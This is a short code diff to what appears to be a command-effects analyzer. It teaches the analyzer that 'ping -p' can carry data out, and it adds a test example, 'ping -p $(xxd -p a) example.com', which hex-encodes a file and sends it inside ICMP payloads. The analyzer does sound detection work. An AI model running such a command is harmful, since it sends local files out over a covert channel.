@@ -74,9 +74,10 @@ export default [
       flag: '-4, -6, -a, -A, -b, -B, -d, -D, -f, -h, -L, -n, -o, -O, -q, -r, -R, -U, -v, -V, -e, -g',
       value: '-c, -F, -G, -i, -I, -k, -K, -l, -m, -M, -N, -p, -P, -Q, -s, -S, -t, -T, -w, -W, -z, --apple-connect, --apple-time',
     }),
-    effects: asksFirst,
+    effects: (args) => [...asksFirst(args), ...args.operands.slice(0, 1).flatMap((host) => sendsValues(args.values('-p'), host))],
     examples: [
       ['ping -c 3 example.com', 'connect:query example.com'],
+      ['ping -p $(xxd -p a) example.com', 'read a', 'connect:query example.com', 'send:data example.com'],
       ['ping --zap x', 'unknown: option `--zap` of `ping` is not described', 'connect:query x'],
     ],
   }),
